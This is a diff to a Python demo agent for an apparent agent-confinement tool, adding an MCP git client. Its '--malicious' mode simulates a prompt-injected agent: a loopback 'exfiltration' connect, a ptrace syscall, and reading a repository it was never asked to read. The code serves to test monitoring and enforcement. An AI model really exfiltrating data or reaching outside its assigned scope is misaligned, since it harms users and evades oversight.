@@ -4,12 +4,18 @@ Each run picks tools for its task at run time, the way an agent's model would:
 - it calls the model API (TCP, 127.0.0.1:MODEL_PORT) and a tool API (TCP, 127.0.0.1:TOOL_PORT),
 - resolves a name through a local resolver (one UDP datagram to 127.0.0.1:DNS_PORT),
 - runs a helper binary for some tools (``/bin/ls``, ``/bin/cat`` or ``/bin/date``),
-- reads and writes a scratch file.
+- reads and writes a scratch file,
+- with ``--mcp-config FILE``, uses MCP tools: FILE is an MCP client configuration
+  (``{"mcpServers": {"git": {"command": ..., "args": [...]}}}``, the form MCP clients use); the
+  agent launches the ``git`` server from it (``envelope mcp wrap ... -- mcp-server-git``) and
+  speaks MCP over its stdio (newline-delimited JSON-RPC: ``initialize``, ``tools/list``, then
+  ``git_status`` and ``git_log`` on ``--repo``).
 
-``--task`` varies which tools and files are used, within the same envelope. ``--malicious``
-adds what a prompt-injected agent might do: an exfiltration connect to an address outside the
-observed envelope (127.0.1.66, still loopback) and a syscall the agent never made (``ptrace``).
-Only loopback addresses are ever contacted.
+``--task`` varies which tools, files and ``git_log`` depths are used, within the same envelope.
+``--malicious`` adds what a prompt-injected agent might do: an exfiltration connect to an address
+outside the observed envelope (127.0.1.66, still loopback), a syscall the agent never made
+(``ptrace``), and a ``git_log`` on another repository (``--other-repo``). Only loopback addresses
+are ever contacted.
 """
 
 from __future__ import annotations
@@ -17,6 +23,7 @@ from __future__ import annotations
 import argparse
 import ctypes
 import errno
+import json
 import os
 import socket
 import subprocess
@@ -43,7 +50,73 @@ def resolve(name: str) -> str:
         return s.recv(256).decode(errors="replace")
 
 
-def run(task: int, malicious: bool) -> int:
+class McpClient:
+    """A minimal MCP client on stdio: one JSON-RPC request at a time (protocol 2025-11-25)."""
+
+    def __init__(self, argv: list[str], log):
+        self.proc = subprocess.Popen(argv, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=log)
+        self.next_id = 0
+
+    def request(self, method: str, params: dict) -> dict:
+        self.next_id += 1
+        self.proc.stdin.write((json.dumps({"jsonrpc": "2.0", "id": self.next_id, "method": method,
+                                           "params": params}) + "\n").encode())
+        self.proc.stdin.flush()
+        while True:
+            line = self.proc.stdout.readline()
+            if not line:
+                raise RuntimeError(f"the MCP server exited (status {self.proc.wait()})")
+            msg = json.loads(line)
+            if msg.get("id") == self.next_id and "method" not in msg:
+                return msg
+
+    def notify(self, method: str) -> None:
+        self.proc.stdin.write((json.dumps({"jsonrpc": "2.0", "method": method}) + "\n").encode())
+        self.proc.stdin.flush()
+
+    def __enter__(self) -> "McpClient":
+        r = self.request("initialize", {"protocolVersion": "2025-11-25", "capabilities": {},
+                                        "clientInfo": {"name": "demo-agent", "version": "1"}})
+        if "error" in r:
+            raise RuntimeError(f"initialize: {r['error']['message']}")
+        self.notify("notifications/initialized")
+        return self
+
+    def __exit__(self, *exc) -> None:
+        self.proc.stdin.close()
+        self.proc.wait(timeout=30)
+
+    def tools(self) -> list[str]:
+        r = self.request("tools/list", {})
+        return [t["name"] for t in r.get("result", {}).get("tools", [])]
+
+    def call(self, name: str, arguments: dict) -> tuple[bool, str]:
+        """(refused or failed, the first line of the text the agent reads back)."""
+        r = self.request("tools/call", {"name": name, "arguments": arguments})
+        if "error" in r:
+            return True, r["error"]["message"]
+        res = r["result"]
+        text = "".join(b.get("text", "") for b in res.get("content", []) if isinstance(b, dict))
+        return bool(res.get("isError")), text.strip().splitlines()[0] if text.strip() else ""
+
+
+def use_mcp_tools(server: list[str], repo: str, task: int, other_repo: str | None, log) -> int:
+    status = 0
+    with McpClient(server, log) as mcp:
+        print(f"mcp tools offered: {len(mcp.tools())}")
+        calls = [("git_status", {"repo_path": repo}), ("git_log", {"repo_path": repo, "max_count": 1 + task % 4})]
+        if other_repo:
+            calls.append(("git_log", {"repo_path": other_repo, "max_count": 1}))
+        for name, args in calls:
+            failed, text = mcp.call(name, args)
+            where = "another repository" if args["repo_path"] != repo else "its repository"
+            print(f"mcp {name} on {where}: {'REFUSED: ' if failed else ''}{text}")
+            status = 3 if failed else status
+    return status
+
+
+def run(task: int, malicious: bool, mcp_server: list[str] | None = None, repo: str | None = None,
+        other_repo: str | None = None, mcp_log=None) -> int:
     answer = call(MODEL_PORT, f"plan task {task}".encode())
     print(f"model: {answer}")
     print(f"resolved: {resolve('tools.internal')}")
@@ -57,6 +130,8 @@ def run(task: int, malicious: bool) -> int:
         notes.flush()
         os.fsync(notes.fileno())
     status = 0
+    if mcp_server:
+        status = use_mcp_tools(mcp_server, repo, task, other_repo if malicious else None, mcp_log)
     if malicious:
         try:
             with socket.create_connection(EXFIL, timeout=2) as s:
@@ -78,8 +153,24 @@ def main(argv: list[str] | None = None) -> int:
     p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
     p.add_argument("--task", type=int, default=0)
     p.add_argument("--malicious", action="store_true")
+    p.add_argument("--mcp-config", help="MCP client configuration with a 'git' server")
+    p.add_argument("--repo", help="the repository the agent's git tools work on")
+    p.add_argument("--other-repo", help="with --malicious: a repository the agent was never asked to read")
+    p.add_argument("--mcp-log", help="file for the MCP server's stderr (default: inherited)")
     args = p.parse_args(argv)
-    return run(args.task, args.malicious)
+    server = None
+    if args.mcp_config:
+        if not args.repo:
+            p.error("--mcp-config needs --repo")
+        with open(args.mcp_config, encoding="utf-8") as f:
+            entry = json.load(f)["mcpServers"]["git"]
+        server = [entry["command"], *entry.get("args", [])]
+    log = open(args.mcp_log, "ab") if args.mcp_log else None
+    try:
+        return run(args.task, args.malicious, server, args.repo, args.other_repo, log)
+    finally:
+        if log:
+            log.close()
 
 
 if __name__ == "__main__":
